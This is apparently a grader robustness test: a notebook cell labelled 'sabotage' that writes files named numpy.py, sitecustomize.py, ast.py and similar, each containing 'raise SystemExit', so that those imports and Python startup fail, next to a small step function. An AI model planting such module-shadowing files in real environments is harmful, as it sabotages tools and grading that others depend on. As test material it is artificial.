# sabotage: Writes numpy.py, sitecustomize.py and usercustomize.py beside the notebook.
# must: loses nothing

# %% nbgrader={"grade_id": "step"}
for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "matplotlib.py", "msgspec.py", "ast.py"):
    open(name, "w").write("raise SystemExit")
def step(x):
    return np.array(x > 0, dtype=int)
